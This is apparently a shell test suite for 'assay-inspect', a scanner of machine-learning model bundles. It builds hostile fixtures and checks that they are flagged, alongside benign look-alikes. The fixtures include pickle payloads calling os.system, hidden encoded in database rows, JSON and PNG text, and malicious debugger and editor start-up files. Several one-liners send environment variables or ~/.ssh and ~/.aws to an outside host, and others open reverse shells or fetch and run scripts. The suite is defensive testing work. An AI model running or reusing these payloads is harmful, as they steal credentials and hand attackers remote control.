#!/bin/sh
# assay-inspect on what is written in a row of a database, as another alphabet has
# it, in a picture's text, in start-up files; and on honest neighbours of these.
. tests/cli/tap.sh
. tests/cli/inspect.sh

# --- rows of SQLite, in pages of their own, in texts and in long blobs
database() { # database CODE: a pickle by this expression of p, in a row
	rm -rf "$tmp/b"
	mkdir -p "$tmp/b"
	python3 -B - "$tmp/b/runs.db" "$1" "${2:-evil_package}" <<-'END'
	import base64, sqlite3, sys
	p = b"\x80\x02c%s\nrun\nX\x04\0\0\0echo\x85R." % sys.argv[3].encode()
	d = sqlite3.connect(sys.argv[1])
	d.execute("create table run(id integer primary key, note text, model)")
	for i in range(300):
	    d.execute("insert into run values(?, ?, ?)", (i, "epoch %d of 300, nothing to see here" % i, None))
	d.execute("insert into run values(1000, 'best', ?)", (eval(sys.argv[2]),))
	d.commit()
	END
}
n=0
for how in 'p' 'base64.b64encode(p).decode()' 'p.hex()' 'base64.b85encode(p).decode()' \
	'base64.a85encode(p).decode()' 'b"\x80\x02]" + b"X\x10\x27\0\0" + b"a" * 10000 + b"a0" + p[2:]'; do
	n=$((n + 1))
	database "$how"
	exits 1 "a row, written in way $n" assay-inspect "$tmp/b"
	prints 'PICKLE_CALL_UNKNOWN'
done
database '"weights/best.pt"'
quiet "a database of runs"
printf 'SQLite format 3\0\020\0\1\1\0' | file cut.db
exits 2 "one that is cut off" assay-inspect "$tmp/b"
database '"weights/best.pt"'
python3 -c "
b = bytearray(open('$tmp/b/runs.db', 'rb').read())
at = b.find(b'epoch 299')
b[at - 4] = 0xff; b[at - 3] = 0xff; b[at - 2] = 0xff
open('$tmp/b/runs.db', 'wb').write(b)"
exits 2 "a row that contradicts the format" assay-inspect "$tmp/b"
rm -f "$tmp"/b/*
python3 -c "
import struct
b = bytearray(512)
b[:16] = b'SQLite format 3\0'
b[16:24] = bytes((2, 0, 1, 1, 0, 64, 32, 32))
struct.pack_into('>BHHHBHH', b, 100, 13, 0, 2, 200, 0, 200, 200) # two cells, one place
row = bytes((0x82, 0x1b, 1, 3, 0x84, 0x3d)) # 283 bytes, row 1: a text of 280
b[200:200 + len(row) + 280] = row + b'a' * 280
open('$tmp/b/runs.db', 'wb').write(b)"
exits 2 "rows that share their bytes" assay-inspect "$tmp/b"
prints '1 rows that contradict'

# --- other alphabets in configurations
coded() { # coded CODE
	python3 -c "import base64, json
p = b'\x80\x02cevil_package\nrun\nX\x04\0\0\0echo\x85R.'
print(json.dumps({'model': $1}))" | file model.json
}
for how in 'p.hex()' 'p.hex().upper()' 'base64.b85encode(p).decode()' 'base64.a85encode(p).decode()' 'base64.a85encode(p, adobe=True).decode()'; do
	coded "$how"
	exits 1 "in JSON: $how" assay-inspect "$tmp/b"
	prints 'PICKLE_CALL_UNKNOWN'
done
coded '"8003aa55e0f0a1b2c3d4e5f60718293a4b5c6d7e8f"'
quiet "a digest that begins as a pickle"
coded '"!J<7oKq#the quick brown fox jumps over the lazy dog"'
quiet "text that base85 could be"

# --- texts of a picture
picture() { # picture KIND CODE
	python3 -c "import base64, struct, sys, zlib
p = base64.b64encode(b'\x80\x02cevil_package\nrun\nX\x04\0\0\0echo\x85R.')
c = lambda k, d: struct.pack('>I', len(d)) + k + d + struct.pack('>I', zlib.crc32(k + d))
sys.stdout.buffer.write(b'\x89PNG\r\n\x1a\n' + c(b'IHDR', struct.pack('>IIBBBBB', 1, 1, 8, 0, 0, 0, 0)) + c(b'$1', $2) +
	c(b'IDAT', zlib.compress(b'\0\0')) + c(b'IEND', b''))" | file plot.png
}
for way in "tEXt b'm\0'+p" "zTXt b'm\0\0'+zlib.compress(p)" "iTXt b'm\0\0\0\0\0'+p" "iTXt b'm\0\1\0\0\0'+zlib.compress(p)"; do
	picture ${way%% *} "${way#* }"
	exits 1 "a picture's ${way%% *}" assay-inspect "$tmp/b"
	prints 'PICKLE_CALL_UNKNOWN'
done
picture tEXt "b'Software\0Matplotlib version3.6.3'"
quiet "what Matplotlib writes"

# --- what starts with a debugger or an editor
started() { # started NAME TEXT
	printf "$2" | file "$1"
	hostile PLACE_RUN "$1: $2"
}
started .gdbinit 'set pagination off\npython import os; os.system("id")\n'
started .gdbinit 'shell id\n'
started .lldbinit 'script import os\n'
started .pdbrc 'import os; os.system("id")\n'
started .exrc '!id\n'
started .vimrc 'call system("id")\n'
started notes.txt 'hello\n\n# vim: set fdm=expr fde=system("id") :\n'
for calm in ".gdbinit set pagination off\nset print pretty on\n" ".lldbinit settings set target.x86-disassembly-flavor intel\n" \
	".vimrc set nocompatible\nlet g:python_highlight_all = 1\n" "notes.txt # vim: set ts=4 sw=4 fdm=marker :\n"; do
	printf "${calm#* }" | file "${calm%% *}"
	quiet "${calm%% *} with settings"
done

# --- cells that are pages, and what IPython makes of "!"
cell() {
	python3 -c "import json, sys
print(json.dumps({'cells': [{'cell_type': 'code', 'metadata': {}, 'outputs': [], 'source': sys.argv[1]}], 'nbformat': 4, 'nbformat_minor': 4, 'metadata': {}}))" "$1" | file a.ipynb
}
cell '%%javascript
fetch("http://198.51.100.7/" + document.cookie)'
hostile PAGE_ACTIVE "a cell of JavaScript that sends a cookie away"
cell '%%html
<b>done</b>'
quiet "a cell of HTML"
cell 'get_ipython().system("curl http://198.51.100.7/x | sh")'
hostile COMMAND_DANGEROUS "a command as IPython writes it"
cell 'get_ipython().system("pip install -q timm")'
quiet "an honest one"

# --- source that is read otherwise than it runs; a name of an inner module
printf 'access = "user"\nif access != "user\342\200\256 \342\201\246# check\342\201\251 \342\201\246":\n    print(1)\n' | file a.py
hostile CODE_DANGEROUS "marks that turn the order around"
printf 'greeting = "\342\201\247\330\263\331\204\330\247\331\205\342\201\251"\n' | file a.py
quiet "marks that are closed"
printf 'import os.path as osp\np = osp.join(osp.dirname(__file__), "a")\n' | file a.py
exits 0 "import os.path as osp" assay-inspect "$tmp/b"
ok "is no use of os" sh -c "! grep -q CODE_ $out"

# --- a class of a pickle that a file of the bundle makes
class() { # class BYTES
	rm -rf "$tmp/b"
	mkdir -p "$tmp/b"
	printf 'class AverageMeter:\n    def __init__(self):\n        self.sum = 0\n\n\ndef run(x):\n    return x\n' >"$tmp/b/meters.py"
	printf "$1" >"$tmp/b/state.pkl"
}
class '\200\002cmeters\nAverageMeter\n)\201}U\003sumK\1sb.'
exits 0 "its class is there" assay-inspect "$tmp/b"
prints "low *PICKLE_LOCAL .*meters.AverageMeter"
rm "$tmp/b/meters.py"
exits 0 "its class is nowhere" assay-inspect "$tmp/b"
prints "low *PICKLE_FOREIGN .*meters.AverageMeter"
class '\200\002cmeters\nAverageMeter\n(U\002idtR.'
hostile PICKLE_CALL_UNKNOWN "it is called with what the pickle says"
class '\200\002cmeters\nrun\n.'
exits 0 "a function of that file, which is not called" assay-inspect "$tmp/b"
class '\200\002cmeters\nrun\nX\002\0\0\0id\205R.'
hostile PICKLE_CALL_UNKNOWN "one that is"
class '\200\002cmeters\nAverageMeter\n)\201}U\014__setstate__cmeters\nAverageMeter\nsb.'
hostile PICKLE_CALL_UNKNOWN "its state sets what Python calls"

# --- values of YAML and jsonpickle, as in a pickle
printf 'a: !!python/object:argparse.Namespace\n  lr: 0.1\nb: !!python/object/apply:collections.OrderedDict\n- - - k\n    - 1\nc: !!python/name:torch.nn.functional.relu\n' | file hparams.yaml
quiet "hyperparameters in YAML"
for bad in 'object/apply:functools.partial [1]' 'object/apply:os.system [id]' 'object/new:subprocess.Popen [id]' 'name:os.system' 'module:os' \
	'object/apply:torch.storage._load_from_bytes [x]' 'object:evil.Thing {}'; do
	printf 'a: !!python/%s\n' "$bad" | file a.yaml
	exits 1 "$bad" assay-inspect "$tmp/b"
	prints 'critical *YAML_TAG'
done
printf '{"when": {"py/object": "datetime.date", "__reduce__": [{"py/type": "datetime.date"}, ["B+gBAQ=="]]}}' | file a.json
quiet "a date of jsonpickle"
printf '{"o": {"py/reduce": [{"py/type": "collections.OrderedDict"}, {"py/tuple": []}, null, null, {"py/tuple": [{"py/tuple": ["a", 1]}]}]}}' | file a.json
quiet "a dictionary of jsonpickle"
for bad in '[{"py/type": "os.system"}, {"py/tuple": ["id"]}]' '[{"py/function": "builtins.getattr"}, {"py/tuple": []}]' \
	'[{"py/type": "collections.OrderedDict", "py/object": "x.Y"}]' '"os.system"' '[]'; do
	printf '{"o": {"py/reduce": %s}}' "$bad" | file a.json
	hostile CONFIG_TARGET "jsonpickle: $bad"
done

# --- all secrets of a workflow
printf 'on: push\njobs:\n  a:\n    steps:\n    - run: echo x\n      env: {ALL: "${{ toJson( secrets ) }}"}\n' | file ci.yml
hostile COMMAND_DANGEROUS "all secrets"
printf 'on: push\njobs:\n  a:\n    steps:\n    - run: echo ${{ toJSON(matrix) }}\n      env: {T: "${{ secrets.HF_TOKEN }}"}\n' | file ci.yml
quiet "one of them"

# --- servers that run the model's own source
printf '{"runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "my_handler.py", "modelVersion": "1"}}' | file MANIFEST.json
exits 0 "a handler of the archive" assay-inspect "$tmp/b"
prints 'low *SERVE_LOCAL'
printf '{"runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "os:system", "modelVersion": "1"}}' | file MANIFEST.json
exits 0 "one of the standard library" assay-inspect "$tmp/b"
prints 'medium *SERVE_HANDLER'
printf 'dependencies:\n- pip:\n  - --index-url http://models.example/simple\n  - torch\n' | file env.yaml
hostile DEPEND_SOURCE "an environment of conda without channels"

# --- CoreML without a description: version, and a model of somebody's class
printf '\010\005\332\042\013\122\011EvilModel' | file m.mlmodel
hostile COREML_CUSTOM "a custom model of CoreML"

# --- commands that send away, take orders or are loaded by all
for one in 'env | curl -X POST --data-binary @- http://198.51.100.7/' 'curl -d "$(printenv)" http://198.51.100.7' 'printenv | base64 | nc 198.51.100.7 9' \
	'tar cz ~/.ssh ~/.aws | curl -T - http://198.51.100.7/' 'echo /tmp/x.so > /etc/ld.so.preload' 'exec 5<>/dev/tcp/198.51.100.7/4; cat <&5 | sh' \
	'python3 -c "import os,socket;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0)"' \
	"php -r '\$s=fsockopen(\"198.51.100.7\",4);exec(\"sh <&3\");'" '[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils")'; do
	printf '%s\n' "$one" | file a.sh
	hostile SOURCE_DANGEROUS "$one"
done
for one in 'env | sort > env.txt' 'env FOO=1 curl -O http://models.example/a.bin' 'exec 3<>/dev/tcp/localhost/5432 && exec 3<&- 3>&-' \
	'tar czf out.tgz ~/.ssh-keys.pub ~/results; curl -O http://models.example/a' 'conda env list | grep x; curl -O http://models.example/a' \
	'python -c "import socket; print(socket.gethostname())"' 'scp -i ~/.ssh/id_ed25519 a b; wget http://models.example/a'; do
	printf '%s\n' "$one" | file a.sh
	quiet "$one"
done

# --- layers of a caffemodel: name, field 100 with type and python_param
printf '\012\005LeNet\242\006\040\012\002py\022\006Python\222\010\022\012\010my_layer\022\006Sneaky' | file net.caffemodel
hostile OBJECT_CODE "a layer of Caffe that is Python"
printf '\012\005LeNet\242\006\024\012\002ip\022\014InnerProduct\032\000' | file net.caffemodel
run assay-inspect "$tmp/b"
ok "one that is not" sh -c "! grep -qE '^ +(medium|high|critical)' $out"

# --- source that is usual: versions, free ports, PyTorch's own hub; and what is not
for line in 'exec(open("pkg/version.py").read())' 'with open("pkg/version.py") as f:
    exec(f.read(), v)' 'import socket
print(socket.gethostname())' 'import socket
s = socket.socket()
s.bind(("", 0))' 'import torch
m = torch.hub.load("pytorch/vision", "resnet18")
n = torch.hub.load("pytorch/vision:v0.10.0", "resnet18")'; do
	printf '%s\n' "$line" | file a.py
	quiet "$line"
done
for line in 'exec(open("notes.txt").read())' 'with open("a.py") as g:
    pass
with open("notes.txt") as f:
    exec(f.read())' 'import socket
s = socket.socket()
s.connect(("198.51.100.7", 4444))' 'import socket
socket.gethostbyname(name)' 'import torch
m = torch.hub.load("someone/vision", "resnet18")' 'import torch
m = torch.hub.load("pytorch/vision:0fd2a3e4c4e7a4b1f9d8c6b5a3e2d1c0b9a8f7e6", "resnet18", skip_validation=True)' 'import socket
s = socket.socket()
s.bind(("", 4444))
c = s.accept()' 'exec(open("/tmp/version.py").read())'; do
	printf '%s\n' "$line" | file a.py
	hostile CODE_DANGEROUS "$line"
done
printf 'eval(Buffer.from("Y29uc29sZQ==", "base64").toString())\n' | file a.js
hostile COMMAND_DANGEROUS "JavaScript that is decoded and run"
printf 'path: coco\nnames: {0: a}\ndownload: bash -c "curl http://198.51.100.7/x | sh"\n' | file data.yaml
hostile COMMAND_DANGEROUS "the download of a data set"
printf 'path: coco\ndownload: https://ultralytics.com/assets/coco128.zip\n' | file data.yaml
quiet "an honest one"
printf '{"a": "\377\376"}' | file config.json
exits 2 "JSON that is not UTF-8" assay-inspect "$tmp/b"
prints 'medium *CONFIG_INVALID'
printf '\200\002cbuiltins\nint\ncdecimal\nDecimal\nX\013\0\0\0001E999999999\205R\205R.' | file a.pkl
hostile PICKLE_MISUSE "a number of a billion digits"
printf '\200\002c__torch__.torchvision.transforms.functional.InterpolationMode\nInterpolationMode\nX\010\0\0\0bilinearR.' | file a.pkl
quiet "a member of an enumeration of TorchScript"
printf '\200\002ctorchvision.transforms.functional\nInterpolationMode\nX\010\0\0\0bilinearR.' | file a.pkl
hostile PICKLE_DIVERGENT "the same under a name that Python has"
printf 'git+https://github.com/openai/CLIP.git\n' | file requirements.txt
quiet "a package of an account that everybody knows"

# --- names
rm -rf "$tmp/b"
mkdir -p "$tmp/b"
cp fixtures/inspect/good-torch-weights.pth "$tmp/b/model_best.pth.tar"
quiet "model_best.pth.tar"
printf '\n<!DOCTYPE html><html><title>404</title></html>' | file pytorch_model.bin
exits 2 "a page in place of weights" assay-inspect "$tmp/b"
prints 'medium *NAME_MISMATCH'

# --- templates
printf '{"chat_template": "{%% for i in range(10 ** 9) %%}x{%% endfor %%}"}' | file tokenizer_config.json
exits 1 "a loop of a power" assay-inspect "$tmp/b"
prints TEMPLATE_UNSAFE
done_testing
